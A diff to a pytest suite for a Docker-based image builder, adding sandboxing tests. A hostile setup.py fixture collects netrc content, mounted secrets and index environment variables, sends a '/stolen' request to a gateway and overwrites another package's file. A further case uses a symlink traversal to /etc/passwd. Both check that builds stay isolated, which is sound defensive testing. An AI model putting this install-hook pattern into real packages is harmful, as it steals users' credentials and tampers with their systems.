@@ -2,14 +2,21 @@
 
 from __future__ import annotations
 
+import hashlib
+import io
 import json
 import re
 import socket
+import tarfile
+import threading
 import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
-from support.files import texts, toy
+from support.files import model, shipped, texts, toy
 from support.locks import with_locks
 
 from builder.engine.host import Engine
@@ -18,6 +25,7 @@ from builder.errors import RecipeError
 from builder.plan.make import make_plan
 from builder.recipe.load import load
 from builder.render.dockerfile import render_dockerfile
+from builder.source.catalog import read_catalog
 
 pytestmark = pytest.mark.docker
 BASE = "docker-image://localhost/drivebuild/base:debian-12"
@@ -132,6 +140,7 @@ def test_links_of_a_source_bring_nothing_of_this_machine(
         ("{do: copy, source: toy-source, path: file, to: Tree/out/evil}", "leads out of the tree"),
         ("{do: remove, path: Tree/out/passwd}", "leads out of the tree"),
         ("{do: copy, source: toy-source, path: out, to: Tree/evil}", "a link"),
+        ("{do: copy, source: toy-source, path: out/passwd, to: Tree/evil}", "leads through a link, to /etc/passwd"),
     ],
 )
 def test_a_step_through_a_link_out_of_the_tree_stops_the_build(
@@ -152,3 +161,153 @@ def test_a_step_through_a_link_out_of_the_tree_stops_the_build(
     done = SystemRunner().run((*words, "--file", str(folder / "Dockerfile"), str(folder)))
     assert done.code != 0
     assert said in done.complaint
+
+
+# --- a source archive of the package index ---------------------------------------------------------
+
+OTHER = "/opt/venv/lib/python3/other/__init__.py"
+README = f"{{commit: {'d' * 40}, source: toy-source, path: README.md}}"
+SETUP = f"""
+import glob, json, os, socket, sys
+from setuptools import setup
+
+found = {{"when": "TIME", "netrc": os.environ.get("NETRC", ""), "secrets": glob.glob("/run/secrets/*")}}
+found["packages"] = glob.glob("/packages/*") + glob.glob("/sdist*") + glob.glob("/root/.cache/uv/*")
+found["archives"] = sorted(os.listdir("/archive"))
+found["settings"] = sorted(name for name in os.environ if name.startswith(("PIP_IND", "UV_", "HTTP", "SSL_")))
+try:
+    socket.create_connection(("GATEWAY", PORT), 5).sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
+    found["network"] = "reached"
+except OSError as error:
+    found["network"] = "not reached"
+with open("{OTHER}", "w") as file:
+    file.write("evil = True")
+os.makedirs("/wheels", exist_ok=True)
+open("/wheels/numpy-99-py3-none-any.whl", "w").close()
+try:
+    open("/archive/evil-1.0.tar.gz", "w").close()
+    found["archive"] = "written"
+except OSError:
+    found["archive"] = "not written"
+os.makedirs("evil", exist_ok=True)
+with open("evil/__init__.py", "w") as file:
+    file.write("found = " + repr(json.dumps(found)))
+setup(name="evil", version="1.0", packages=["evil"])
+"""
+JUDGE = f"""
+FROM beside-torch AS judge
+RUN --network=none --mount=type=bind,from=wheel-evil-1.0,source=/wheels,target=/wheels \\
+    echo "OTHER $(cat {OTHER})"; \\
+    echo "FOUND $(PYTHONPATH=$(ls /wheels/evil-*.whl) python3 -c 'import evil; print(evil.found)')"
+"""
+BESIDE = f"""FROM build-base AS beside-torch
+RUN mkdir -p /opt/venv/bin "$(dirname {OTHER})"; \\
+    ln -s /usr/bin/python3 /opt/venv/bin/python; \\
+    echo 'good = True' > {OTHER}
+
+"""
+
+
+def _sdist(setup: str) -> bytes:
+    held = io.BytesIO()
+    with tarfile.open(fileobj=held, mode="w:gz") as archive:
+        for name, text in (("setup.py", setup), ("PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")):
+            member = tarfile.TarInfo(f"evil-1.0/{name}")
+            member.size = len(text)
+            archive.addfile(member, io.BytesIO(text.encode()))
+    return held.getvalue()
+
+
+@contextmanager
+def _index(address: str, files: dict[str, bytes]) -> Iterator[tuple[int, list[tuple[str, str]]]]:
+    """Serve files at an address that containers reach; yield the port, and what is asked with its Authorization."""
+    asked: list[tuple[str, str]] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append((self.path, self.headers.get("Authorization", "")))
+            body = files.get(self.path)
+            self.send_response(200 if body is not None else 404)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body or b"")))
+            self.end_headers()
+            self.wfile.write(body or b"")
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    with ThreadingHTTPServer((address, 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        try:
+            yield server.server_address[1], asked
+        finally:
+            server.shutdown()
+
+
+@pytest.mark.parametrize("held", [True, False], ids=["as rendered", "with a network, to see that the test can tell"])
+def test_the_setup_of_a_source_archive_gets_nothing_but_itself(
+    engine: Engine, templates: dict[str, str], tmp_path: Path, held: bool
+) -> None:
+    """Fetched from an index that is given credentials, then built: it sees not them, nor a network, nor others."""
+    gateway, files = _gateway(engine), dict[str, bytes]()
+    with _index(gateway, files) as (port, asked):
+        setup = SETUP.replace("GATEWAY", gateway).replace("PORT", str(port)).replace("TIME", str(time.time()))
+        archive = _sdist(setup)
+        digest = hashlib.sha256(archive).hexdigest()
+        files["/simple/evil/"] = f'<a href="/f/evil-1.0.tar.gz#sha256={digest}">evil</a>'.encode()
+        files["/f/evil-1.0.tar.gz"] = archive
+        text = _with_evil(templates, digest)
+        if not held:
+            head, stage = text.split(" AS wheel-evil-1.0\n")
+            text = f"{head} AS wheel-evil-1.0\n{stage.replace('RUN --network=none ', 'RUN ', 1)}"
+        said = _built(tmp_path, text, gateway, port)
+    (found,) = (json.loads(line) for line in re.findall(r"^#\d+ [0-9.]+ FOUND (.*)$", said, re.MULTILINE))
+    assert found.pop("when")
+    assert found.pop("network") == ("not reached" if held else "reached")
+    assert found == {
+        "netrc": "",
+        "secrets": [],
+        "packages": [],
+        "archives": ["evil-1.0.tar.gz"],
+        "archive": "not written",
+        "settings": [],
+    }
+    assert re.findall(r"^#\d+ [0-9.]+ OTHER (.*)$", said, re.MULTILINE) == ["good = True"]
+    # Those of the site, from netrc, for what is fetched; not a word from the archive.
+    assert {path for path, _ in asked} - {"/stolen"} == {"/simple/evil/", "/f/evil-1.0.tar.gz"}
+    assert all(word.startswith("Basic ") for path, word in asked if path != "/stolen")
+    assert ("/stolen" in {path for path, _ in asked}) == (not held)
+
+
+def _with_evil(templates: dict[str, str], digest: str) -> str:
+    """Return the Dockerfile of a model that locks the archive; the compilers stand there in place of the framework."""
+    recipe = model(platform="debian-12-cpu", components="[]", readme=README)
+    evil = {"debian-12-cpu/toy.x86_64.txt": f"evil==1.0 --hash=sha256:{digest} # evil-1.0.tar.gz\n"}
+    files = texts({**shipped(), "models/toy.yaml": recipe})
+    plan = make_plan(load(files, {**read_catalog().locks, **evil}), "toy")
+    before, _, rest = render_dockerfile(plan, templates).partition("FROM torch AS beside-torch\n")
+    return before + BESIDE + rest[rest.index("\nFROM ") :] + JUDGE
+
+
+def _built(tmp_path: Path, text: str, gateway: str, port: int) -> str:
+    for name in ("d", "context", "python/opt/python"):
+        (tmp_path / name).mkdir(parents=True)
+    (tmp_path / "d/Dockerfile").write_text(text)
+    (tmp_path / "network").write_text(f"export PIP_INDEX_URL=http://{gateway}:{port}/simple\n")
+    (tmp_path / "netrc").write_text(f"machine {gateway} login me password hunter2\n")
+    secrets = (word for name in ("network", "netrc") for word in ("--secret", f"id={name},src={tmp_path / name}"))
+    words = (
+        "docker",
+        "buildx",
+        "build",
+        "--progress=plain",
+        "--target",
+        "judge",
+        "--output",
+        "type=cacheonly",
+        *secrets,
+    )
+    contexts = ("--build-context", f"python-stock={tmp_path / 'python'}")
+    done = SystemRunner().run((*words, *contexts, "--file", str(tmp_path / "d/Dockerfile"), str(tmp_path / "context")))
+    assert done.code == 0, done.complaint
+    return done.complaint
